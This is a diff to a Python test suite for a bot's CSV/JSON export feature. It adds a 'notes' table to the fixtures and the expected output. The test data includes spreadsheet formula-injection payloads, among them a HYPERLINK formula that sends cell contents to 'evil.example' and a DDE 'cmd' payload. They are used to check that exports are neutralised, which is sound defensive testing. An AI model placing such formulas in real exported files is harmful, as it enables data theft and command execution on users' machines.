@@ -18,11 +18,13 @@ from bot.cli import main
 from bot.export import EXPORTERS, accounts_query, write
 from bot.scan import scan
 from storage.db import read_tx, write_tx
+from storage.models import Note
 from storage.stall_actions import assign, audit, resolve, snooze
 
 from factories import ACCOUNT, AUDIT, DAY, HOUR, PROJECT, SIGNED_UP, STALL, T0, activated, group, signup, store, track
 
 UTC = timezone.utc
+NOTE = Note.__table__
 
 # Names a spreadsheet would run as formulas, and text that breaks naive CSV and JSON writers.
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
@@ -35,6 +37,7 @@ KINDS = {
     "stalls": {"stall_id": "int", "score": "float", "opened_at": "time", "threshold_at": "time",
                "resolved_at": "time", "snoozed_until": "time", "recovery_attempts": "int", "updated_at": "time"},
     "audit": {"audit_id": "int", "at": "time", "stall_id": "int", "detail": "json"},
+    "notes": {"note_id": "int", "created_at": "time", "stall_id": "int"},
 }
 
 
@@ -78,6 +81,15 @@ def company(engine, rules) -> dict:
         assert resolve(conn, ids["formula-0"], "U_LEAD", FORMULAS[0], now)
         audit(conn, now=now, actor="U_LEAD", action="stall.resolve", stall_id=ids["formula-0"],
               account_id="formula-0", source="=cmd", detail={"resolution": FORMULAS[0]})
+    # People's notes (written straight into the table: bot/stalls/notes.py's use-case is tested in
+    # tests/test_notes.py): one on an account, one on a stall, one whose text a spreadsheet would run.
+    with write_tx(engine) as conn:
+        conn.execute(NOTE.insert(), [
+            dict(account_id="acme", stall_id=None, author="U_CSM", text="Spoke to them, lands next sprint",
+                 created_at=now),
+            dict(account_id="hostile", stall_id=ids["hostile"], author="U_CSM", text=HOSTILE, created_at=now),
+            dict(account_id="acme", stall_id=ids["acme"], author="U_LEAD", text=FORMULAS[0],
+                 created_at=now + HOUR)])
     # "mover" makes progress: the next scan auto-resolves its stall (an audit entry of its own).
     store(engine, rules, [track("mover", PROJECT, T0 + 4 * DAY)], now=T0 + 4 * DAY)
     scan(engine, rules, T0 + 4 * DAY + HOUR)
@@ -113,6 +125,12 @@ def expected_rows(engine, what: str) -> list[dict]:
             "resolution": s.resolution, "resolved_by": s.resolved_by, "assignee": s.assignee,
             "snoozed_until": s.snoozed_until, "recovery_attempts": s.recovery_attempts, "updated_at": s.updated_at,
         } for s in stalls]
+    if what == "notes":
+        with read_tx(engine) as conn:
+            notes = list(conn.execute(select(NOTE).order_by(NOTE.c.created_at, NOTE.c.id)))
+        return [{"note_id": n.id, "created_at": n.created_at, "account_id": n.account_id,
+                 "account_name": accounts[n.account_id].name, "stall_id": n.stall_id, "author": n.author,
+                 "text": n.text} for n in notes]
     return [{"audit_id": e.id, "at": e.at, "actor": e.actor, "action": e.action, "stall_id": e.stall_id,
              "account_id": e.account_id, "source": e.source, "detail": e.detail} for e in audits]
 
@@ -301,7 +319,7 @@ def test_a_bad_since_says_what_is_expected(cli, bad):
 
 
 def test_unknown_export_and_format_are_usage_errors(cli):
-    assert cli("export", "notes").exit_code == 2
+    assert cli("export", "tickets").exit_code == 2
     assert cli("export", "stalls", "--format", "xlsx").exit_code == 2
 
 
